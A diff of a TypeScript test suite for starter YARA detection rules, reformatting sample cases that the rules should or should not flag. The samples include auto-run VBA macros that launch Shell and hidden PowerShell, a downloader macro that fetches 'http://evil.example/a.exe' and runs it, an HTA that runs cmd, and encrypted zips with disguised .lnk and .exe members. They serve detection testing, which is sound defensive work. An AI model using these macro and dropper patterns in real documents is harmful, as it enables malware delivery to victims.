@@ -24,7 +24,12 @@ const utf8 = (s: string) => Buffer.from(s, 'utf8');
 
 /** An OLE2 vbaProject as Office stores it: VBA storage with _VBA_PROJECT, dir and a module. */
 function vbaProject(moduleText: string): Buffer {
-  return buildOle2({ 'VBA/_VBA_PROJECT': Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00]), 'VBA/dir': Buffer.from([1, 0, 0, 0]), 'VBA/ThisDocument': ascii(moduleText), PROJECT: ascii('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n') });
+  return buildOle2({
+    'VBA/_VBA_PROJECT': Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00]),
+    'VBA/dir': Buffer.from([1, 0, 0, 0]),
+    'VBA/ThisDocument': ascii(moduleText),
+    PROJECT: ascii('ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'),
+  });
 }
 
 /** An ISO 9660 image: primary volume descriptor at sector 16, then a directory sector holding these names. */
@@ -72,23 +77,53 @@ const CASES: readonly RuleCase[] = [
   {
     rule: 'C4TAP_Office_Macro_AutoExec_Shell',
     matches: [
-      { what: 'a vbaProject.bin whose AutoOpen runs Shell', content: () => vbaProject('Attribut\x00e VB_Nam\x00e = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd /c start calc", vbHide\r\nEnd Sub\r\n') },
-      { what: 'VBA source with Document_Open and WScript.Shell', content: () => ascii('Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  CreateObject("WScript.Shell").Run "powershell -nop -w hidden"\r\nEnd Sub\r\n') },
+      {
+        what: 'a vbaProject.bin whose AutoOpen runs Shell',
+        content: () => vbaProject('Attribut\x00e VB_Nam\x00e = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd /c start calc", vbHide\r\nEnd Sub\r\n'),
+      },
+      {
+        what: 'VBA source with Document_Open and WScript.Shell',
+        content: () =>
+          ascii(
+            'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  CreateObject("WScript.Shell").Run "powershell -nop -w hidden"\r\nEnd Sub\r\n',
+          ),
+      },
     ],
     misses: [
-      { what: 'a vbaProject.bin with AutoOpen that only formats text', content: () => vbaProject('Sub AutoOpen()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n') },
-      { what: 'an article that mentions AutoOpen and Shell without any VBA project', content: () => ascii('Attackers use AutoOpen macros that call Shell to start cmd.exe.') },
+      {
+        what: 'a vbaProject.bin with AutoOpen that only formats text',
+        content: () => vbaProject('Sub AutoOpen()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n'),
+      },
+      {
+        what: 'an article that mentions AutoOpen and Shell without any VBA project',
+        content: () => ascii('Attackers use AutoOpen macros that call Shell to start cmd.exe.'),
+      },
     ],
   },
   {
     rule: 'C4TAP_Office_Macro_Downloader',
     matches: [
-      { what: 'VBA source that downloads with URLDownloadToFile and runs it', content: () => ascii('Attribute VB_Name = "Module1"\r\nPrivate Declare PtrSafe Function URLDownloadToFile Lib "urlmon" ()\r\nSub Go()\r\n URLDownloadToFile 0, "http://evil.example/a.exe", "a.exe", 0, 0\r\n Shell "a.exe"\r\nEnd Sub\r\n') },
-      { what: 'a vbaProject.bin that fetches with MSXML2.XMLHTTP and saves with ADODB.Stream', content: () => vbaProject('Set h = CreateObject("MSXML2.XMLHTTP")\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "x.exe"\r\n') },
+      {
+        what: 'VBA source that downloads with URLDownloadToFile and runs it',
+        content: () =>
+          ascii(
+            'Attribute VB_Name = "Module1"\r\nPrivate Declare PtrSafe Function URLDownloadToFile Lib "urlmon" ()\r\nSub Go()\r\n URLDownloadToFile 0, "http://evil.example/a.exe", "a.exe", 0, 0\r\n Shell "a.exe"\r\nEnd Sub\r\n',
+          ),
+      },
+      {
+        what: 'a vbaProject.bin that fetches with MSXML2.XMLHTTP and saves with ADODB.Stream',
+        content: () => vbaProject('Set h = CreateObject("MSXML2.XMLHTTP")\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "x.exe"\r\n'),
+      },
     ],
     misses: [
-      { what: 'VBA source that fetches a page but neither runs nor saves it', content: () => ascii('Attribute VB_Name = "Module1"\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "https://intranet.example/", False\r\n') },
-      { what: 'a text about URLDownloadToFile and Shell outside any macro', content: () => ascii('URLDownloadToFile followed by Shell is a classic downloader pattern.') },
+      {
+        what: 'VBA source that fetches a page but neither runs nor saves it',
+        content: () => ascii('Attribute VB_Name = "Module1"\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "https://intranet.example/", False\r\n'),
+      },
+      {
+        what: 'a text about URLDownloadToFile and Shell outside any macro',
+        content: () => ascii('URLDownloadToFile followed by Shell is a classic downloader pattern.'),
+      },
     ],
   },
   {
@@ -122,41 +157,92 @@ const CASES: readonly RuleCase[] = [
     ],
     misses: [
       { what: 'a FAT12 image holding only REPORT.PDF', content: () => fatImage(['REPORT  PDF']) },
-      { what: 'a boot sector without a FAT file system holding INVOICE LNK', content: () => { const b = fatImage(['INVOICE LNK']); b.fill(0x20, 0x36, 0x3e); return b; } },
+      {
+        what: 'a boot sector without a FAT file system holding INVOICE LNK',
+        content: () => {
+          const b = fatImage(['INVOICE LNK']);
+          b.fill(0x20, 0x36, 0x3e);
+          return b;
+        },
+      },
     ],
   },
   {
     rule: 'C4TAP_HTA_Script_Execution',
     matches: [
-      { what: 'an HTA that runs cmd through WScript.Shell', content: () => ascii('<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"/>\n<script language="VBScript">Set s = CreateObject("WScript.Shell"): s.Run "cmd /c calc", 0: window.close</script></head></html>') },
-      { what: 'a UTF-16 HTA using ActiveXObject', content: () => utf16('<hta:application id="x"/><script>new ActiveXObject("Shell.Application").ShellExecute("powershell")</script>') },
+      {
+        what: 'an HTA that runs cmd through WScript.Shell',
+        content: () =>
+          ascii(
+            '<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"/>\n<script language="VBScript">Set s = CreateObject("WScript.Shell"): s.Run "cmd /c calc", 0: window.close</script></head></html>',
+          ),
+      },
+      {
+        what: 'a UTF-16 HTA using ActiveXObject',
+        content: () => utf16('<hta:application id="x"/><script>new ActiveXObject("Shell.Application").ShellExecute("powershell")</script>'),
+      },
     ],
     misses: [
-      { what: 'an HTA that only shows a form', content: () => ascii('<html><head><hta:application id="app"/></head><body><form><input type="text"/></form></body></html>') },
-      { what: 'a web page that uses ActiveXObject but is no HTA', content: () => ascii('<html><script>var x = new ActiveXObject("Microsoft.XMLHTTP");</script></html>') },
-      { what: 'HTA text inside high-entropy data', content: () => Buffer.concat([randomBytes(64 * 1024), ascii('<hta:application/><script>CreateObject("WScript.Shell")</script>')]) },
+      {
+        what: 'an HTA that only shows a form',
+        content: () => ascii('<html><head><hta:application id="app"/></head><body><form><input type="text"/></form></body></html>'),
+      },
+      {
+        what: 'a web page that uses ActiveXObject but is no HTA',
+        content: () => ascii('<html><script>var x = new ActiveXObject("Microsoft.XMLHTTP");</script></html>'),
+      },
+      {
+        what: 'HTA text inside high-entropy data',
+        content: () => Buffer.concat([randomBytes(64 * 1024), ascii('<hta:application/><script>CreateObject("WScript.Shell")</script>')]),
+      },
     ],
   },
   {
     rule: 'C4TAP_Zip_Encrypted',
     matches: [
-      { what: 'a ZipCrypto zip (PPAP)', content: () => buildZip([{ name: '見積書.pdf', content: utf8('%PDF-1.7') }], { password: 'Pa55', encryption: 'zipcrypto' }) },
+      {
+        what: 'a ZipCrypto zip (PPAP)',
+        content: () => buildZip([{ name: '見積書.pdf', content: utf8('%PDF-1.7') }], { password: 'Pa55', encryption: 'zipcrypto' }),
+      },
       { what: 'an AES zip', content: () => buildZip([{ name: 'a.txt', content: utf8('x') }], { password: 'Pa55', encryption: 'aes' }) },
     ],
     misses: [
       { what: 'a plain zip', content: () => buildZip([{ name: 'a.txt', content: utf8('hello') }]) },
-      { what: 'data that only contains a zip header further on', content: async () => Buffer.concat([ascii('MZ not a zip'), await buildZip([{ name: 'a.txt', content: utf8('x') }], { password: 'Pa55', encryption: 'zipcrypto' })]) },
+      {
+        what: 'data that only contains a zip header further on',
+        content: async () =>
+          Buffer.concat([ascii('MZ not a zip'), await buildZip([{ name: 'a.txt', content: utf8('x') }], { password: 'Pa55', encryption: 'zipcrypto' })]),
+      },
     ],
   },
   {
     rule: 'C4TAP_Zip_Encrypted_Risky_Member',
     matches: [
-      { what: 'an encrypted zip holding invoice.pdf.lnk', content: () => buildZip([{ name: 'invoice.pdf.lnk', content: buildLnk() }], { password: 'Pa55', encryption: 'zipcrypto' }) },
-      { what: 'an AES zip holding SETUP.EXE among documents', content: () => buildZip([{ name: 'readme.txt', content: utf8('x') }, { name: 'SETUP.EXE', content: ascii('MZ') }], { password: 'Pa55', encryption: 'aes' }) },
-      { what: 'an encrypted zip holding a .js script', content: () => buildZip([{ name: 'scan.js', content: utf8('WScript.Echo(1)') }], { password: 'Pa55', encryption: 'zipcrypto' }) },
+      {
+        what: 'an encrypted zip holding invoice.pdf.lnk',
+        content: () => buildZip([{ name: 'invoice.pdf.lnk', content: buildLnk() }], { password: 'Pa55', encryption: 'zipcrypto' }),
+      },
+      {
+        what: 'an AES zip holding SETUP.EXE among documents',
+        content: () =>
+          buildZip(
+            [
+              { name: 'readme.txt', content: utf8('x') },
+              { name: 'SETUP.EXE', content: ascii('MZ') },
+            ],
+            { password: 'Pa55', encryption: 'aes' },
+          ),
+      },
+      {
+        what: 'an encrypted zip holding a .js script',
+        content: () => buildZip([{ name: 'scan.js', content: utf8('WScript.Echo(1)') }], { password: 'Pa55', encryption: 'zipcrypto' }),
+      },
     ],
     misses: [
-      { what: 'an encrypted zip holding only a PDF', content: () => buildZip([{ name: 'invoice.pdf', content: utf8('%PDF-1.7') }], { password: 'Pa55', encryption: 'zipcrypto' }) },
+      {
+        what: 'an encrypted zip holding only a PDF',
+        content: () => buildZip([{ name: 'invoice.pdf', content: utf8('%PDF-1.7') }], { password: 'Pa55', encryption: 'zipcrypto' }),
+      },
       { what: 'a plain zip holding a shortcut', content: () => buildZip([{ name: 'invoice.lnk', content: buildLnk() }]) },
     ],
   },
@@ -169,7 +255,10 @@ const CASES: readonly RuleCase[] = [
     misses: [
       { what: 'a UTF-8 body with a single keyword', content: () => utf8('請求書は来月まとめてお送りします。') },
       { what: 'the same lure wording in Shift_JIS', content: () => sjis('請求書を添付ファイルにてお送りします。') },
-      { what: 'lure wording inside compressed or encrypted (high-entropy) data', content: () => Buffer.concat([randomBytes(64 * 1024), utf8('請求書を添付ファイルにてお送りします。')]) },
+      {
+        what: 'lure wording inside compressed or encrypted (high-entropy) data',
+        content: () => Buffer.concat([randomBytes(64 * 1024), utf8('請求書を添付ファイルにてお送りします。')]),
+      },
     ],
   },
   {
@@ -212,7 +301,9 @@ describe('starter YARA rules (policies/yara)', () => {
   }
 
   it('all load, with no compile error', () => {
-    const files = readdirSync(RULES_DIR).filter((f) => f.endsWith('.yar')).sort();
+    const files = readdirSync(RULES_DIR)
+      .filter((f) => f.endsWith('.yar'))
+      .sort();
     expect(scanner.status()).to.deep.equal({ loaded: files, errors: [] });
   });
 
